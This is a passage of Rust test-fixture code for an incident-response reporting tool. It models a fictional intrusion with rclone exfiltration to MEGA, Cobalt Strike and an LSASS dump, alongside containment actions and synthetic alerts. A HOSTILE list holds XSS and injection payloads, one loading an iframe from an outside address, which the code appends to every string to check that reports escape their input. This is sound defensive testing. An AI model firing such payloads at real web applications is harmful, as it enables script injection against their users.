                first: Some(at(-1, 22, 0)),
                last: Some(at(-1, 22, 35)),
                destinations: vec![],
                bytes_out: None,
                probable_exfiltration: false,
                personal_data: true,
                sensitivity: Some(Sensitivity::SpecialCategory),
                evidence: vec![],
            },
            DataExposure {
                store: Some("CIAS".into()),
                host: Some("SRV-FIC01".into()),
                activity: ExposureActivity::Upload,
                tool: Some("rclone.exe".into()),
                description: "rclone copy of cias.rar to a MEGA remote".into(),
                first: Some(at(-1, 22, 40)),
                last: Some(at(-1, 23, 58)),
                destinations: s(&["mega:", "g.api.mega.co.nz"]),
                bytes_out: Some(151_300_000_000),
                probable_exfiltration: true,
                personal_data: true,
                sensitivity: Some(Sensitivity::SpecialCategory),
                evidence: vec![],
            },
        ],
        coverage: Coverage { silence_threshold_secs: 6 * 3600, channels },
        zones,
        containment: vec![
            Action { priority: 1, kind: ActionKind::RevokeRemoteAccess, target: "presta.maint".into(), reason: "Entry point: VPN account without MFA used by the attacker.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 2, kind: ActionKind::IsolateHost, target: "SRV-RDS01".into(), reason: "Attacker's base: AnyDesk, Cobalt Strike pipe, LSASS dump.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 3, kind: ActionKind::BlockDomain, target: "*.net.anydesk.com".into(), reason: "Remote-access channel kept by the attacker.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 4, kind: ActionKind::DisableAccount, target: "svc_sauvegarde".into(), reason: "Backdoor domain admin created during the attack.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 5, kind: ActionKind::BlockAddress, target: "203.0.113.45".into(), reason: "Attacker's VPN source address.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 6, kind: ActionKind::BlockDomain, target: "mega.nz".into(), reason: "Exfiltration destination.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 7, kind: ActionKind::ResetPassword, target: "adm.tech01".into(), reason: "Used by the attacker after the LSASS dump.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 8, kind: ActionKind::ResetPassword, target: "svc_veeam".into(), reason: "Kerberoasted; Veeam credentials read.".into(), evidence: vec![], undo: String::new() },
            Action { priority: 9, kind: ActionKind::ResetKrbtgt, target: "ccpab.local".into(), reason: "Domain controller compromised.".into(), evidence: vec![], undo: String::new() },
        ],
        services,
        detections: DetectionSummary {
            total: 1_873,
            by_level: LevelCounts { informational: 402, low: 1_210, medium: 70, high: 158, critical: 33, unset: 0 },
            signals: 261,
            rules: rule_counts,
            correlations: vec![],
        },
        caveats: s(&[
            "AQUA-ACCES01 has no Sysmon log: processes there are not visible.",
            "The Security logs of DC01 and SRV-FIC01 were cleared at 01:05 on 14 Mar; events after that time come from other hosts.",
        ]),
    }
}

#[allow(non_snake_case)]
fn Zone_not_reached() -> ZoneStatus {
    ZoneStatus {
        zone: "isolated (State)".into(),
        critical: true,
        isolated: true,
        hosts: vec!["TES-01".into()],
        status: ZoneReach::NotReached,
        reason: "No logon, connection or process event involves TES-01, and its logs cover the whole period with no gap.".into(),
        coverage: vec![
            "TES-01 Security: 6 Mar 00:00 → 14 Mar 09:00, records 1–48,000, no gap".into(),
            "TES-01 Sysmon: 6 Mar 00:00 → 14 Mar 09:00, no gap".into(),
            "FW01: no flow to or from the State line".into(),
        ],
        evidence: vec![],
    }
}

/// Alerts: the attack's (one row per counted detection) plus a week of
/// low-level noise during office hours, deterministic.
pub fn ccpab_detections() -> Vec<DetectionRow> {
    let mut rows = Vec::new();
    for (i, st) in attack_steps().iter().enumerate() {
        for k in 0..st.count {
            let host = st.hosts[(k as usize) % st.hosts.len()];
            rows.push(DetectionRow {
                time: Some(at(st.day, st.h, st.m) + Duration::seconds(k as i64 * 13)),
                level: Some(st.level),
                rule_id: Some(format!("rule-{i}")),
                rule_title: st.rule.into(),
                tags: vec![format!("attack.{}", st.technique.0.to_lowercase())],
                computer: Some(format!("{}.ccpab.local", host.to_lowercase())),
                account: st.accounts.first().map(|a| a.to_string()),
                details: format!("Image=C:\\Windows\\System32\\cmd.exe ¦ step {}", i + 1),
                source: format!(
                    "logs/{host}/Security.evtx#record={}",
                    10_000 + i as u64 * 100 + k
                ),
            });
        }
    }
    // Noise: a linear congruential generator, fixed seed.
    let mut x: u64 = 0x5eed;
    let mut next = || {
        x = x
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (x >> 33) as u32
    };
    let noisy = [
        "Use of net.exe by an administrator",
        "Scheduled task created",
        "PowerShell download cradle in a script block",
        "Windows update service restarted",
    ];
    for day in -8..=0i64 {
        for _ in 0..(if day == 0 { 20 } else { 160 }) {
            let h = 7 + next() % 11;
            let m = next() % 60;
            let r = next() as usize % noisy.len();
            let level = match next() % 10 {
                0..=5 => Level::Low,
                6..=8 => Level::Informational,
                _ => Level::Medium,
            };
            rows.push(DetectionRow {
                time: Some(at(day, h, m)),
                level: Some(level),
                rule_id: Some(format!("noise-{r}")),
                rule_title: noisy[r].into(),
                tags: vec![],
                computer: Some(format!("pc-tech-0{}.ccpab.local", 1 + next() % 3)),
                account: Some("adm.tech01".into()),
                details: "CommandLine=net use \\\\SRV-FIC01\\RH".into(),
                source: "logs/PC-TECH-01/Security.evtx#record=1".into(),
            });
        }
    }
    rows.sort_by_key(|r| r.time);
    rows
}

/// Payloads appended to attacker-controllable strings.
pub const HOSTILE: &[&str] = &[
    "<script>document.documentElement.setAttribute('data-pwned','1')</script>",
    "\"><img src=x onerror=\"document.documentElement.setAttribute('data-pwned','1')\">",
    "'><svg onload='document.documentElement.setAttribute(\"data-pwned\",\"1\")'>",
    "</style></script></title></textarea><iframe src=//203.0.113.9/>",
    "javascript:alert(1)//\u{202e}fdp.exe\u{0}\u{1b}[31m",
    "&lt;b&gt; already-escaped &amp; <!-- comment --> ]]> {{7*7}} ${7*7}",
];

/// The scope with a hostile payload appended to every free-text string
/// (enum values and timestamps left alone so it still deserializes).
pub fn hostile_scope() -> Scope {
    fn walk(v: &mut Json, n: &mut usize) {
        match v {
            Json::String(s) => {
                let is_time = chrono::DateTime::parse_from_rfc3339(s).is_ok();
                let is_enum =
                    !s.is_empty() && s.chars().all(|c| c.is_ascii_lowercase() || c == '_');
                if !is_time && !is_enum && s != vigie_scope::SCHEMA_VERSION {
                    s.push_str(HOSTILE[*n % HOSTILE.len()]);
                    *n += 1;
                }
            }
            Json::Array(a) => a.iter_mut().for_each(|x| walk(x, n)),
            Json::Object(o) => o.values_mut().for_each(|x| walk(x, n)),
            _ => {}
        }
    }
    let mut v = serde_json::to_value(ccpab_scope()).unwrap();
    let mut n = 0;
    walk(&mut v, &mut n);
    assert!(n > 300, "only {n} strings made hostile");
    serde_json::from_value(v).expect("hostile scope still deserializes")
}

pub fn hostile_detections() -> Vec<DetectionRow> {
    let mut rows = ccpab_detections();
    for (i, r) in rows.iter_mut().enumerate().take(60) {
        let p = HOSTILE[i % HOSTILE.len()];
        r.rule_title.push_str(p);
        r.details.push_str(p);
        r.source.push_str(p);
        r.computer = Some(format!("pc{p}"));
        r.account = Some(p.to_string());
    }
    rows
}
